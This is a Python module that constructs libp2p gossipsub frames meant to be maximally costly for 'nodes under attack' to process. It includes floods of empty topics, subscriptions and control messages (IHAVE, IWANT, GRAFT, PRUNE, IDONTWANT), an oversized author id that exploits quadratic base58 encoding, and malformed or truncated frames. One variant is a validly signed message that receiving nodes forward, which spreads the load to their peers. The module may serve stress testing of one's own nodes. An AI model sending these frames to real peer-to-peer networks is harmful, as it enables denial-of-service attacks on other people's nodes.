"""The gossip frames that are the most expensive for the nodes under attack to process. In most of
them, one repeated field fills the frame.

The frames are bytes that can be written to a gossip stream. libp2p reads frames of up to 1 MiB.
These frames are slightly smaller, so that they are not refused because of their length.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from functools import cache

from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.utils.varint import encode_varint_prefixed

from p2ptrain.identity import Identity

BYTES_MAX = 960_000
"""Size of the content of a frame in bytes. It is enough for 480,000 empty topics."""


def framed(rpc: rpc_pb2.RPC) -> bytes:
    return bytes(encode_varint_prefixed(rpc.SerializeToString()))


def many_topics(topic: str, author: bytes) -> bytes:
    """Return one message with a real topic and 480,000 empty ones."""
    message = rpc_pb2.Message(from_id=author, data=b"x", seqno=b"12345678", signature=bytes(64))
    message.topicIDs.append(topic)
    message.topicIDs.extend([""] * ((BYTES_MAX - 1000) // 2))
    return framed(rpc_pb2.RPC(publish=[message]))


def signed_topics(topic: str, identity: Identity) -> bytes:
    """Return the message of `many_topics` with a valid signature of `identity`. A node that accepts
    this message also forwards it.
    """
    key = create_new_key_pair(identity.seed).private_key
    author = ID.from_base58(identity.peer).to_bytes()
    message = rpc_pb2.Message(from_id=author, data=b"x", seqno=os.urandom(8))
    message.topicIDs.append(topic)
    message.topicIDs.extend([""] * ((BYTES_MAX - 1000) // 2))
    message.signature = key.sign(PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString())
    return framed(rpc_pb2.RPC(publish=[message]))


def many_messages(topic: str, author: bytes) -> bytes:
    messages = [
        rpc_pb2.Message(from_id=author, topicIDs=[topic], seqno=number.to_bytes(8, "big"))
        for number in range(BYTES_MAX // (len(topic) + 60))
    ]
    return framed(rpc_pb2.RPC(publish=messages))


def empty_messages(topic: str, author: bytes) -> bytes:
    return framed(rpc_pb2.RPC(publish=[rpc_pb2.Message()] * (BYTES_MAX // 2)))


def many_subscriptions(topic: str, author: bytes) -> bytes:
    subs = [
        rpc_pb2.RPC.SubOpts(subscribe=True, topicid=f"t{number}")
        for number in range(BYTES_MAX // 14)
    ]
    return framed(rpc_pb2.RPC(subscriptions=subs))


def few_subscriptions(topic: str, author: bytes) -> bytes:
    """Return 100 subscriptions to topics with very long names."""
    subs = [
        rpc_pb2.RPC.SubOpts(subscribe=True, topicid="x" * 9_000 + str(number))
        for number in range(100)
    ]
    return framed(rpc_pb2.RPC(subscriptions=subs))


def _control(**fields: object) -> bytes:
    return framed(rpc_pb2.RPC(control=rpc_pb2.ControlMessage(**fields)))  # type: ignore[arg-type]


def many_ihave(topic: str, author: bytes) -> bytes:
    return _control(ihave=[rpc_pb2.ControlIHave(topicID=topic)] * (BYTES_MAX // (len(topic) + 8)))


def ihave_of_many(topic: str, author: bytes) -> bytes:
    return _control(ihave=[rpc_pb2.ControlIHave(topicID=topic, messageIDs=[b""] * 450_000)])


def many_iwant(topic: str, author: bytes) -> bytes:
    return _control(iwant=[rpc_pb2.ControlIWant(messageIDs=[b"ab"])] * (BYTES_MAX // 8))


def iwant_of_many(topic: str, author: bytes) -> bytes:
    return _control(iwant=[rpc_pb2.ControlIWant(messageIDs=[b"ab" * 40] * (BYTES_MAX // 84))])


def many_grafts(topic: str, author: bytes) -> bytes:
    return _control(graft=[rpc_pb2.ControlGraft(topicID=topic)] * (BYTES_MAX // (len(topic) + 6)))


def many_prunes(topic: str, author: bytes) -> bytes:
    return _control(
        prune=[rpc_pb2.ControlPrune(topicID=topic, backoff=2**60)]
        * (BYTES_MAX // (len(topic) + 20))
    )


def prune_with_peers(topic: str, author: bytes) -> bytes:
    peers = [rpc_pb2.PeerInfo(peerID=author)] * (BYTES_MAX // 50)
    return _control(prune=[rpc_pb2.ControlPrune(topicID=topic, peers=peers)])


def many_idontwant(topic: str, author: bytes) -> bytes:
    return _control(idontwant=[rpc_pb2.ControlIDontWant(messageIDs=[b""] * 450_000)])


def many_observe(topic: str, author: bytes) -> bytes:
    count = BYTES_MAX // (len(topic) + 6)
    return _control(
        observe=[rpc_pb2.ControlObserve(topicID=topic)] * (count // 2),
        unobserve=[rpc_pb2.ControlUnobserve(topicID=topic)] * (count // 2),
    )


def long_author(topic: str, author: bytes) -> bytes:
    """Return a message with a very long author id. The time to encode the id in base58 grows with
    the square of its length.
    """
    return framed(rpc_pb2.RPC(publish=[rpc_pb2.Message(from_id=b"\1" * 40_000, topicIDs=[topic])]))


def long_data(topic: str, author: bytes) -> bytes:
    message = rpc_pb2.Message(from_id=author, topicIDs=[topic], seqno=b"1", data=bytes(BYTES_MAX))
    return framed(rpc_pb2.RPC(publish=[message]))


def no_protobuf(topic: str, author: bytes) -> bytes:
    return bytes(encode_varint_prefixed(b"\xff" * 1000))


def zero_frames(topic: str, author: bytes) -> bytes:
    """Return 100,000 empty frames."""
    return bytes(100_000)


def too_long(topic: str, author: bytes) -> bytes:
    """Return a frame that announces 16 MiB and contains only 1,000 bytes."""
    return b"\x80\x80\x80\x08" + bytes(1000)


def cut_short(topic: str, author: bytes) -> bytes:
    return many_grafts(topic, author)[:5000]


KINDS = (
    many_topics,
    many_messages,
    empty_messages,
    many_subscriptions,
    few_subscriptions,
    many_ihave,
    ihave_of_many,
    many_iwant,
    iwant_of_many,
    many_grafts,
    many_prunes,
    prune_with_peers,
    many_idontwant,
    many_observe,
    long_author,
    long_data,
    no_protobuf,
    zero_frames,
)
"""Frames after which further frames can be sent on the same stream."""

LAST = (too_long, cut_short)
"""Frames after which no further frame can be sent on the same stream."""


@cache
def frames(topic: str, author: bytes) -> Mapping[str, bytes]:
    """Return all frames for one topic, by name. Making them takes a second of CPU, so they are
    cached.
    """
    return {kind.__name__: kind(topic, author) for kind in (*KINDS, *LAST)}
